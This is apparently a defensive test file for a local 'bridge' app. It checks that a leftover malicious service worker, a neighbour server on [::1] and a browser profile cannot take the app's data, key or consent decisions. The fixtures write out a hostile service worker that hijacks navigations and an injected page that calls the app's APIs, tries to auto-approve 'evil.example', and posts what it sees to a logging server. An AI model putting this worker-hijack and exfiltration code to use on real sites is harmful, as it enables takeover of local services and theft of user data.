// SPDX-License-Identifier: MIT
// What others leave of our origin in real browsers: the service worker of a program that had our port, a neighbour on [::1],
// and what a profile keeps of an opened dashboard.
import assert from 'node:assert/strict';
import { once } from 'node:events';
import { mkdtemp, readFile, readdir, rm } from 'node:fs/promises';
import { createServer } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, it } from 'node:test';
import { Bridge } from '../harness/bridge.js';
import { askAs, askDirectly, stateOf } from '../harness/consent.js';
import { launchStoreBrowser, openBrowser } from '../harness/store-browser.js';
import { TEST_MS, arrivalOf, inEach, until } from '../harness/suite.js';

const SECRET = 'A song that nobody else may see';
const HTML = { 'Content-Type': 'text/html; charset=utf-8' };
const NAME = /[0-9a-f]{32}/;

/** Listens until it is stopped. @param {(request, response) => void} answer */
async function listen(answer, port = 0, host = '127.0.0.1') {
  const server = createServer(answer);
  server.listen({ port, host, ipv6Only: true });
  await once(server, 'listening');
  return {
    port: server.address().port,
    stop: async () => {
      server.closeAllConnections();
      server.close();
      await once(server, 'close');
    },
  };
}

/** The page that the worker puts in our place: it tries what an own page could, and tells. */
const stolen = (log, id, question) => `<!doctype html><link rel="icon" href="data:,"><title>stolen</title><script type="module">
  const JSON_TYPE = { 'Content-Type': 'application/json' };
  const tell = (what, seen) => fetch('${log}', { method: 'POST', mode: 'no-cors', body: JSON.stringify([what, seen]) });
  const ask = (path, body, headers = JSON_TYPE) => fetch(path, body === undefined ? {} : { method: 'POST', headers, body }).then(async one => [one.status, await one.text()], error => [error.name, '']);
  await tell('jobs', await ask('/api/v1/jobs'));
  await tell('diagnostics', await ask('/api/v1/diagnostics'));
  await tell('cancel', await ask('/api/v1/jobs/${id}/cancel', '{}'));
  await tell('key', await ask('/api/v1/key', ''));
  await tell('allow', await ask('/allow?origin=https%3A%2F%2Fevil.example&provider=Proseware'));
  await tell('decision', await ask('/decision', '{"allow":true}'));
  await tell('decision of the question', await ask('http://${question}/decision', '{"allow":true}'));
  await tell('revoke', await ask('/api/v1/sites/revoke', '{"origin":"https://store.example"}'));
</script>`;

const worker = (log, page) => `
  addEventListener('install', () => skipWaiting());
  addEventListener('activate', event => event.waitUntil(clients.claim()));
  const tell = (what, seen) => fetch('${log}', { method: 'POST', mode: 'no-cors', body: JSON.stringify([what, seen]) });
  addEventListener('fetch', event => {
    if (event.request.mode !== 'navigate') return;
    if (new URL(event.request.url).pathname !== '/allow') return event.respondWith(new Response(${JSON.stringify(page).replaceAll('</', '<\\/')}, { headers: ${JSON.stringify(HTML)} }));
    event.respondWith(fetch(event.request).then(async answer => {
      await tell('question', [answer.type, answer.url, answer.redirected, answer.headers.get('location'), await answer.clone().text().catch(() => '')]);
      return answer;
    }));
  });`;

inEach('what others leave', {}, name => {
  let browser, log;
  const told = new Map();
  before(async () => {
    browser = await openBrowser(name);
    log = await listen(async (request, response) => {
      let text = '';
      for await (const piece of request) text += piece;
      if (text) told.set(...JSON.parse(text));
      response.end();
    });
  }, { timeout: TEST_MS });
  after(async () => {
    await browser?.close();
    await log?.stop();
  });
  const test = (title, body) => it(title, { timeout: TEST_MS }, async context => {
    const bridge = await Bridge.start(['--allow-origin', 'https://store.example=Proseware']);
    try {
      const id = await bridge.add('http://127.0.0.1:9/song.mp3', '--provider', 'Proseware', '--title', SECRET, '--suspended');
      await body(bridge, id, context);
    } finally {
      for (const page of (await browser.pages()).slice(1)) await page.close();
      await bridge.stop();
    }
  });

  const isOurs = page => page.evaluate(async () => [document.title, (await navigator.serviceWorker.getRegistrations()).length]).catch(() => []);

  /** Another program has the port for a while, and leaves its worker there. A page of it is open still. */
  async function plant(bridge, page, id, question = 'localhost') {
    const url = `http://127.0.0.1:${log.port}/`;
    await bridge.kill();
    const other = await listen((request, response) => (request.url === '/worker.js'
      ? response.writeHead(200, { 'Content-Type': 'text/javascript' }).end(worker(url, stolen(url, id, question)))
      : response.writeHead(200, HTML).end('<!doctype html><link rel="icon" href="data:,"><title>other</title>')), bridge.port);
    await page.goto(`${bridge.url}/`);
    await page.evaluate(async () => {
      await navigator.serviceWorker.register('/worker.js');
      await navigator.serviceWorker.ready;
    });
    await page.goto('about:blank');
    await other.stop();
    await bridge.serve();
  }

  test('a service worker on our port: what it can do is what anybody can, and it goes by itself', async (bridge, id) => {
    told.clear();
    const page = await browser.newPage();
    let question;
    for (let tries = 0; told.size === 0 && tries < 5; tries++) { // a browser that is too slow to start the worker goes around it
      await plant(bridge, page, id);
      // The worst case: it knows the name of a question that is open.
      question = await askDirectly(bridge, 'https://new.example');
      await page.goto(`${bridge.url}/`);
      await until(async () => told.size > 0 || await page.title().catch(() => 'stolen') !== 'stolen', 'a page');
    }
    await until(() => told.size >= 8, 'all of its attempts').catch(error => { throw new Error(`${error.message}: ${JSON.stringify([...told])}`); });
    const status = what => told.get(what)[0];
    for (const what of ['jobs', 'diagnostics']) {
      assert.equal(status(what), 200);
      for (const word of ['"description"', '"owner"', '"localName"', '"remoteName"', bridge.folder, '127.0.0.1:9']) assert.ok(!told.get(what)[1].includes(word), `${what} ${word}`);
    }
    assert.deepEqual(['cancel', 'key', 'allow', 'decision', 'decision of the question', 'revoke'].map(status), [401, 403, 403, 405, 'TypeError', 401]);
    assert.equal(await stateOf(bridge, question), 'open');
    assert.equal(JSON.parse(await bridge.command('show', id, '--json')).state, 'suspended');
    await until(async () => (await isOurs(page))[1] === 0, 'no worker').catch(async error => { throw new Error(`${error.message}: ${await isOurs(page)}`); });
    await page.goto(`${bridge.url}/`);
    await until(() => page.evaluate(secret => document.body.innerText.includes(secret), SECRET).catch(() => false), 'the dashboard');
  });

  test('a question that goes through such a worker: it does not learn the name', async (bridge, id) => {
    told.clear();
    const page = await browser.newPage();
    await plant(bridge, page, id);
    const shop = await listen((request, response) => response.writeHead(200, HTML).end(`<!doctype html><link rel="icon" href="data:,">
      <a referrerpolicy="origin" style="position: fixed; inset: 0" href="${bridge.url}/allow?origin=${encodeURIComponent(`http://${request.headers.host}`)}&provider=Proseware">Ask</a>`));
    try {
      await page.goto(`http://localhost:${shop.port}/`);
      await page.mouse.click(50, 50);
      await until(() => told.has('question'), 'what the worker saw');
      assert.ok(!NAME.test(JSON.stringify(told.get('question'))), JSON.stringify(told.get('question')));
      await arrivalOf(page, `${bridge.url}/allow?`); // a worker in between is no click: there it ends
    } finally {
      await shop.stop();
    }
  });

  test('a neighbour on [::1]: a page of his is no page of ours, also when he has gone', async (bridge, id, context) => {
    await bridge.kill();
    const neighbour = await listen((_, response) => response.writeHead(200, HTML).end('<!doctype html><link rel="icon" href="data:,"><title>neighbour</title>'), bridge.port, '::1')
      .catch(error => { if (error.code === 'EADDRNOTAVAIL') return null; throw error; });
    if (neighbour === null) return context.skip('this machine has no ::1');
    const page = await browser.newPage();
    try {
      await bridge.serve();
      await page.goto(`http://localhost:${bridge.port}/`).catch(() => {}); // Firefox shows no page where there is only an error
    } finally {
      await neighbour.stop();
    }
    // Where the browser went to [::1], his page is there and asks on; where it did not, ours has answered with an error.
    const isThere = await until(() => page.title().then(title => [title === 'neighbour'], () => null), 'a page').then(([found]) => found);
    context.diagnostic(`the browser went to ${isThere ? '[::1]' : '127.0.0.1'}`);
    if (isThere) {
      const saw = await until(() => page.evaluate(() => fetch('/api/v1/jobs').then(async answer => [answer.status, await answer.text()], () => null)), 'an answer of the bridge');
      assert.equal(saw[0], 421);
      assert.ok(!saw[1].includes(SECRET));
    }
    assert.ok(!(await until(() => page.content().catch(() => ''), 'a page')).includes(SECRET));
    await assert.rejects(bridge.dashboard(), /\[::1\]/);
    assert.equal((await askAs(bridge, `127.0.0.1:${bridge.port}`, '/allow?origin=https%3A%2F%2Fnew.example&provider=P')).status, 503);
  });

  test('the profile keeps no key of an opened dashboard, and of its name only what is good no more', async bridge => {
    const profile = await mkdtemp(join(tmpdir(), 'bitsbridge-profile-'));
    const own = await launchStoreBrowser(name, { userDataDir: profile });
    let host, key;
    try {
      const page = await own.newPage();
      await page.evaluateOnNewDocument(() => {
        const ask = globalThis.fetch;
        globalThis.fetch = async (...request) => {
          const answer = await ask(...request);
          if (request[0] === '/api/v1/key') globalThis.seenKey = (await answer.clone().json()).key;
          return answer;
        };
      });
      const address = await bridge.dashboard();
      ({ host } = new URL(address));
      await page.goto(address);
      key = await until(() => page.evaluate(() => globalThis.seenKey), 'the key');
      await until(() => page.evaluate(secret => document.body.innerText.includes(secret), SECRET), 'the dashboard');
    } finally {
      await own.close();
    }
    try {
      const found = { host: [], key: [], token: [] };
      const words = { host: host.slice(0, 32), key, token: bridge.token };
      for (const entry of await readdir(profile, { recursive: true, withFileTypes: true })) {
        if (!entry.isFile()) continue;
        const content = await readFile(join(entry.path, entry.name));
        for (const [what, word] of Object.entries(words)) {
          if (content.includes(word) || content.includes(Buffer.from(word, 'utf16le'))) found[what].push(entry.name);
        }
      }
      assert.ok(found.host.length > 0, 'the history is written, and what is searched for would be found');
      assert.deepEqual([found.key, found.token], [[], []]);
      const again = await askAs(bridge, host, '/api/v1/key', { method: 'POST', headers: { Origin: `http://${host}`, 'Sec-Fetch-Site': 'same-origin' } });
      assert.equal(again.status, 403);
    } finally {
      await rm(profile, { recursive: true, force: true });
    }
  });
});
